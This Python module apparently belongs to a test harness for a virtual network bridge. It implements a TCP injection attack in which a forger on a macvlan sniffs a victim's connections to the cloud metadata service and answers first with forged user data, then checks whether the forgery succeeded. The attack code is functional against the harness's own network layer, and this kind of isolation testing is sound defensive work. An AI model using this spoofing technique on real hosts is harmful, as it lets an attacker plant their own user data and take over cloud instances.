"""Somebody with a macvlan or macvtap on the bridge itself answers a victim in the name of the metadata service.

As segments_injected, it is given the numbers of the victim's connections; see redirects_by_macvlan for the card. Gained: a victim that takes user data
of the forger's choice. In the way: what leaves for the bridge in the name of a metadata address bears the host's mark (chain `others_…`).
"""

import attack
import rules
import space
import wire
from attack import Outcome
from attacks.redirects_by_macvlan import LINK, plug, unplug
from field import Field
from host import Host

ANSWER = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Length: 17\r\n\r\nUSER-DATA-OF-EVIL"


class Attack(attack.Attack):
    """The forger hears victim-1."""

    hosts = ("address", "bridge")
    spies = ("tap-1",)
    proofs = (("address", 4),)

    def prepare(self, host: Host) -> None:
        """Plugs it in."""
        plug(host)

    def attack(self, field: Field) -> None:
        """Answers before the server does."""
        card, heard, sent, me = wire.Wire("mv0"), field.spies[0], 0, wire.mac(LINK)
        victim, address = field.victims[0], field.own(field.victims[0])
        field.ready()
        while field.goes_on():
            for segment in heard.segments(0.05):
                if segment.source != address or segment.destination != field.metadata or segment.ports[1] != 80 or not segment.acknowledged:
                    continue
                pair, at = (field.metadata, address), segment.sequence + len(segment.data)
                card.send(wire.packet(victim.link, me, pair, wire.tcp(
                    *pair, segment.ports[::-1], wire.ACK | wire.PSH, segment.acknowledged, at, ANSWER)))
                sent += 1
        field.report["sent"] = sent

    def gained(self, outcome: Outcome) -> str | None:
        """What victims believed."""
        sent = outcome.forger["sent"]
        if sent < 20:
            raise space.Failure(f"only {sent} segments were sent: the attack does not work")
        found = outcome.victims
        lost = outcome.lost + found.get("reconnected", 0)
        return f"{found.get('wrong')} wrong answers, {found.get('failed')} failed, {found.get('reconnected')} reconnected" if lost else None

    def weaken(self, host: Host) -> None:
        """Has its packets pass."""
        rules.trust_what_leaves()

    def restore(self, host: Host) -> None:
        """Unplugs it."""
        unplug(host)
        host.heal()
